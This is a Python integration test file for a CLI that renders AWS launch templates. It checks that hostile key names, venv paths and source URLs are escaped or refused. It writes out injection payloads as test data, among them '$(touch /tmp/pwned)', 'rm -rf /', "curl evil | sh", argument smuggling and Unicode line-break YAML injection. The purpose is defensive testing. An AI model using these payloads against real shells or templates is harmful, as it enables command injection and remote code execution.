"""Hostile values: each is rendered so that it arrives exactly as given, or refused (exit 2).

Names with quotes, ``$(...)``, backticks and ``${...}`` must survive every format literally: the
shell must not run them, YAML must not reinterpret them, Terraform must not interpolate them.
Newlines and other control characters are refused before anything is printed.
"""

from __future__ import annotations

import base64
import json
import re
import subprocess
from pathlib import Path

import hcl2
import pytest
import yaml

from neuron_env.resources import shipped_matrix_dir
from tests.support.cli import CliRunner
from tests.support.hcl import unquoted
from tests.support.validators import assert_shellcheck_clean

pytestmark = pytest.mark.integration

HOSTILE_KEY = "ops'\"; $(touch /tmp/pwned) `id` ${HOME} %{if} \\"
HOSTILE_GROUP = "pg $(reboot) 'x' ${y}"
BASE = ["launch-template", "render", "--release", "2.33.1", "--torch", "2.14",
        "--instance-type", "trn2.48xlarge", "--neuron-env-source", "pypi"]  # fmt: skip
HOSTILE = [*BASE, "--key-name", HOSTILE_KEY, "--placement-group", HOSTILE_GROUP]


def render(cli: CliRunner, fmt: str, *args: str, matrix: Path | None = None) -> str:
    extra = ["--matrix-dir", str(matrix)] if matrix else []
    result = cli(*extra, *args, "--format", fmt)
    assert result.returncode == 0, result.stderr
    return result.stdout


def test_hostile_names_survive_json_yaml_and_terraform_literally(cli: CliRunner) -> None:
    data = json.loads(render(cli, "json", *HOSTILE))
    assert (data["KeyName"], data["Placement"]["GroupName"]) == (HOSTILE_KEY, HOSTILE_GROUP)
    cfn = yaml.safe_load(render(cli, "cloudformation", *HOSTILE))
    lt = cfn["Resources"]["NeuronLaunchTemplate"]["Properties"]["LaunchTemplateData"]
    assert (lt["KeyName"], lt["Placement"]["GroupName"]) == (HOSTILE_KEY, HOSTILE_GROUP)
    tf = unquoted(hcl2.loads(render(cli, "terraform", *HOSTILE)))
    resource = tf["resource"][0]["aws_launch_template"]["neuron"]
    # Terraform would interpolate ${...} and %{...}; they must arrive escaped as $${ and %%{.
    assert terraform_literal(resource["key_name"]) == HOSTILE_KEY
    assert terraform_literal(resource["placement"][0]["group_name"]) == HOSTILE_GROUP


def terraform_literal(value: str) -> str:
    assert not re.search(r"(?<!\$)\$\{|(?<!%)%\{", value), f"unescaped template in {value!r}"
    return value.replace("$${", "${").replace("%%{", "%{")


def test_the_user_data_passes_each_value_as_one_argument(cli: CliRunner, tmp_path: Path) -> None:
    """A matrix file whose DLAMI venv path is hostile: the bootstrap still gets it as one word."""
    venv = "/opt/x'; touch /tmp/pwned; echo '$(id)`id`"
    spec = "https://example.com/neuron_env-0.1.0-py3-none-any.whl#sha256=ab&x=1"
    matrix = hostile_matrix(tmp_path, venv)
    script = render(cli, "user-data", *BASE, "--neuron-env-spec", spec, matrix=matrix)
    assert_shellcheck_clean(stdin=script)
    assert bootstrap_argv(script, tmp_path) == [
        "--release", "2.33.1", "--torch", "2.14", "--neuron-env-source", "pypi",
        "--neuron-env-spec", spec, "--venv", venv,
        "--system", "auto", "--efa", "auto", "--python-env", "auto", "--level", "1",
    ]  # fmt: skip
    assert not Path("/tmp/pwned").exists()


def bootstrap_argv(script: str, tmp_path: Path) -> list[str]:
    """Run the user data's last line with the bootstrap replaced by a printer of its arguments."""
    (last,) = [line for line in script.splitlines() if line.startswith("exec ")]
    printer = last.replace("exec /usr/local/sbin/neuron-env-bootstrap", "printf '%s\\n'", 1)
    out = subprocess.run(["bash", "-c", printer], capture_output=True, text=True, cwd=tmp_path)
    return out.stdout.splitlines()


def hostile_matrix(tmp_path: Path, venv: str) -> Path:
    folder = tmp_path / "matrix"
    folder.mkdir()
    text = (shipped_matrix_dir() / "2.33.1.toml").read_text()
    assert 'venv = "/opt/aws_neuronx_venv_torch_neuronx_2_14_0"' in text
    text = text.replace(
        'venv = "/opt/aws_neuronx_venv_torch_neuronx_2_14_0"', f"venv = {json.dumps(venv)}"
    )
    (folder / "2.33.1.toml").write_text(text)
    return folder


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("--key-name", "ops\nrm -rf /"),
        ("--placement-group", "pg\r\nx"),
        ("--neuron-env-spec", "neuron-env'; curl evil | sh; '"),
        ("--neuron-env-spec", "neuron-env $(id)"),
        ("--iam-instance-profile", 'role"; id; "'),
        ("--subnet", "subnet-0123456789abcdef0 --evil"),
        ("--ami", "ami-0123456789abcdef0\n"),
        ("--neuron-env-source", "https://x/neuron_env-0.1.0-py3-none-any.whl'; id; '"),
        ("--neuron-env-source", "s3://bucket/neuron_env-0.1.0-py3-none-any.whl\nid"),
        ("--neuron-env-source", "https://x/$(id)/neuron_env-0.1.0-py3-none-any.whl"),
        ("--neuron-env-sha256", "$(id)"),
    ],
)
def test_values_that_cannot_be_right_are_refused(cli: CliRunner, option: str, value: str) -> None:
    result = cli(*BASE, option, value)
    assert result.returncode == 2
    assert result.stdout == ""
    assert result.stderr.startswith(f"error: {option} ")
    assert "Traceback" not in result.stderr


def test_a_source_url_arrives_as_one_argument_with_its_sha256(
    cli: CliRunner, tmp_path: Path
) -> None:
    url = "https://example.com/a&b/neuron_env-0.1.0-py3-none-any.whl?X-Amz-Signature=1&b=%20#x"
    digest = "0123456789abcdef" * 4
    args = [*BASE[:-2], "--neuron-env-source", url, "--neuron-env-sha256", digest]
    argv = bootstrap_argv(render(cli, "user-data", *args), tmp_path)
    assert argv[4:8] == ["--neuron-env-source", url, "--neuron-env-sha256", digest]


def test_a_control_character_in_matrix_data_is_refused_not_rendered(
    cli: CliRunner, tmp_path: Path
) -> None:
    matrix = hostile_matrix(tmp_path, "/opt/venv\ttab")
    result = cli("--matrix-dir", str(matrix), *BASE, "--format", "user-data")
    assert result.returncode == 2
    assert "control character" in result.stderr
    assert result.stdout == ""


def test_a_hostile_template_name_is_refused_before_any_aws_call(cli: CliRunner) -> None:
    env = {"AWS_ACCESS_KEY_ID": "x", "AWS_SECRET_ACCESS_KEY": "x", "AWS_REGION": "us-east-2",
           "AWS_ENDPOINT_URL": "http://127.0.0.1:9"}  # fmt: skip
    result = cli("launch-template", "create", "--name", "lt'; $(id)", *BASE[2:], env=env)
    assert result.returncode == 2
    assert "is not a valid launch-template name" in result.stderr


def test_user_data_round_trips_through_base64_unchanged(cli: CliRunner) -> None:
    data = json.loads(render(cli, "json", *HOSTILE))
    assert base64.b64decode(data["UserData"]).decode() == render(cli, "user-data", *HOSTILE)


# --- Unicode line breaks: YAML ends a comment at U+2028, U+2029 and U+0085 ------------------------

INCLUDE = "Transform: AWS::Include"
CFN_KEYS = {"AWSTemplateFormatVersion", "Description", "Parameters", "Resources", "Outputs"}


def noted_matrix(tmp_path: Path, note: str, folder_name: str = "matrix") -> Path:
    """2.33.1 with the ubuntu-26.04 DLAMI's note (a warning in the template's comments) replaced."""
    folder = tmp_path / folder_name
    folder.mkdir()
    text = (shipped_matrix_dir() / "2.33.1.toml").read_text()
    old = (
        'note = "The SSM parameter follows the documented naming pattern; '
        'list /aws/service/neuron to confirm it."'
    )
    assert old in text
    text = text.replace(old, f"note = {json.dumps(note)}")
    (folder / "2.33.1.toml").write_text(text)
    return folder


@pytest.mark.parametrize("separator", ["\u2028", "\u2029", "\u0085"])
def test_a_unicode_line_break_in_a_matrix_note_adds_no_top_level_key(
    cli: CliRunner, tmp_path: Path, separator: str
) -> None:
    matrix = noted_matrix(tmp_path, f"harmless{separator}{INCLUDE}{separator}#")
    result = cli("--matrix-dir", str(matrix), *BASE, "--format", "cloudformation")
    assert result.returncode == 2, result.stdout
    assert "control character" in result.stderr  # said by the matrix loader or the renderer
    assert result.stdout == ""
    assert "Traceback" not in result.stderr


def test_the_same_matrix_without_the_line_break_renders_the_five_keys(
    cli: CliRunner, tmp_path: Path
) -> None:
    """The assertion above is not vacuous: the note itself reaches the template's comments."""
    matrix = noted_matrix(tmp_path, f"harmless {INCLUDE} #")
    result = cli("--matrix-dir", str(matrix), *BASE, "--format", "cloudformation")
    assert result.returncode == 0, result.stderr
    assert "# WARNING: The SSM parameter" in result.stdout and INCLUDE in result.stdout
    assert set(yaml.safe_load(result.stdout)) == CFN_KEYS


def test_a_unicode_line_break_in_a_matrix_dir_path_adds_no_top_level_key(
    cli: CliRunner, tmp_path: Path
) -> None:
    """The path reaches the comments through the 'not shipped with neuron-env' warning."""
    matrix = hostile_matrix(tmp_path, "/opt/aws_neuronx_venv_torch_neuronx_2_14_0")
    renamed = matrix.rename(tmp_path / f"m\u2028{INCLUDE}\u2028#")
    result = cli("--matrix-dir", str(renamed), *BASE, "--format", "cloudformation")
    assert result.returncode == 2, result.stdout
    assert "control character" in result.stderr  # said by the matrix loader or the renderer
    assert result.stdout == ""
